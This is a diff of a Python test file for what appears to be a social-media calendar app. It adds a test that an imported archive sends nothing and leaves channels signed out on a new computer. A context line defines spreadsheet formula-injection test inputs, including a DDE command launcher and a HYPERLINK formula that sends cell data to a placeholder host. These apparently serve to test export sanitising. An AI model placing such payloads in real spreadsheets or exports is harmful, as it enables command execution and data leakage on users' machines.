@@ -3,13 +3,14 @@
 import csv
 import io
 import zipfile
-from datetime import datetime
+from datetime import datetime, timedelta
 from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from smmdesk.app import close_desk, open_desk
 from smmdesk.desk import archive, importing, planning, undo
 from smmdesk.desk.cells import bare, safe
 from smmdesk.desk.demo import fill
@@ -18,6 +19,7 @@ from smmdesk.desk.import_archive import look
 from smmdesk.desk.import_rows import ImportBadError
 from smmdesk.model.brand import Brand
 from smmdesk.model.channel import Channel, ChannelStatus
+from smmdesk.model.delivery import State
 from smmdesk.model.media import Asset
 from smmdesk.model.moment import Moment
 from smmdesk.model.post import Post, progress
@@ -31,7 +33,10 @@ from tests.desk.support import (
     edited,
     everything,
     made_desk,
+    rome,
+    states,
 )
+from tests.fakes.reach import made_bench
 
 FORMULAS = ["=1+1", "+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x?"&A1,"ok")', "＝1+1"]
 
@@ -76,6 +81,31 @@ def test_an_archive_makes_the_same_calendar_on_another_computer(desk: Desk, tmp_
         assert (len(again.new), again.same) == (0, done.new)
         assert importing.apply_import(other, again).new == 0
         assert planning.first_brand(other).name == "Forno Lucia"
+
+
+@pytest.mark.statement(111)
+async def test_on_a_new_computer_nothing_is_sent_and_the_channels_ask_to_sign_in(
+    desk: Desk, brand: Brand, tmp_path: Path, clock: ManualClock
+) -> None:
+    """J9: the calendar is the same, and days go by without anything leaving the new computer by itself."""
+    channel = add_channel(desk, brand, "Forno", server="https://forno.example")
+    practice = add_channel(desk, brand, "Prova")
+    posts = [add_post(desk, brand, channel.name, channel) for channel in (channel, practice)]
+    for post in posts:
+        planning.schedule(desk, post.id, rome("2026-11-18 12:00"))
+    archive.export_archive(desk, tmp_path / "all.zip")
+    other = open_desk(Paths(tmp_path / "other"), clock)
+    try:
+        importing.apply_import(other, importing.read_import(other, tmp_path / "all.zip"))
+        assert states(other, posts[0]) == states(desk, posts[0]) == [["scheduled"]]
+        with other.store.reading() as reader:
+            assert reader.get(Channel, channel.id).status is ChannelStatus.SIGNED_OUT
+        with made_bench(other, clock, brand) as bench:
+            await bench.pass_time(timedelta(hours=30), tick=timedelta(minutes=20))
+            assert bench.texts() == []
+            assert {part.state for post in posts for part in bench.parts(post)} == {State.SCHEDULED}
+    finally:
+        await close_desk(other)
 
 
 def test_an_archive_that_was_taken_up_can_be_undone_and_done_again(
